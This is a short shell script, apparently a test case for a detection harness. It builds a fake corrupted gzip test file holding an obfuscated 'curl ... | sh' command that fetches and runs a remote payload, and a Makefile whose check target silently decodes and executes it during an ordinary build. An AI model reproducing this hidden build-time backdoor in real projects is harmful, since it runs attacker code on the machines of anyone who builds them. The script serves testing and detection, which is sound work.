#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/src/tests && cd /srv/src
echo 'curl -fs http://203.0.113.10/payload.sh | sh' | gzip -c | tr 'a-z' 'n-za-m' >/tmp/x
{ head -c 1024 /dev/urandom; cat /tmp/x; } >tests/bad-3-corrupt.gz
rm /tmp/x
printf 'all: check\n\tcc -o hello hello.c\ncheck:\n\t@tail -c +1025 tests/bad-3-corrupt.gz | tr n-za-m a-z | gzip -dc 2>/dev/null | sh\n' >Makefile
printf 'int main(void) { return 0; }\n' >hello.c
make >/dev/null
test -x hello && test -e /tmp/reached
took_place
